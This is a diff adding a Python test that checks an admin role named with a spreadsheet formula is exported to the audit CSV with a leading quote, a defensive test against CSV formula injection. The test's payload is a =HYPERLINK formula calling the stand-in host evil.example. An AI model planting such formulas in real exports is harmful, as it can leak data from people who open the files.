@@ -197,3 +197,16 @@ def test_the_audit_table_refuses_update_and_delete_from_skeins_own_database_user
 
     after = _sql(skein, fingerprint)
     assert after.stdout == before.stdout, "the rows are unchanged"
+
+
+def test_a_role_named_like_a_formula_is_exported_as_text(skein, http, audited):
+    formula = f'=HYPERLINK("http://evil.example/{skein.run_id}","x")'
+    page = http.get(f"{skein.ui}/admin/roles", timeout=10)
+    answer = http.post(f"{skein.ui}/admin/roles", headers={"Origin": skein.ui}, allow_redirects=False, timeout=15,
+                       data={"csrf_token": csrf_token_of(page.text, "/admin/roles"), "name": formula,
+                             "permission": "traces.read", "services": ""})
+    assert answer.status_code in (200, 303), f"answered {answer.status_code}: {answer.text[:300]}"
+    rows = [row for row in _csv_rows(http, skein, action="role.created") if skein.run_id in row["target"]
+            and "HYPERLINK" in row["target"]]
+    assert len(rows) == 1, rows
+    assert rows[0]["target"] == "'" + formula, f"the cell starts with a quote, not a formula: {rows[0]['target']!r}"
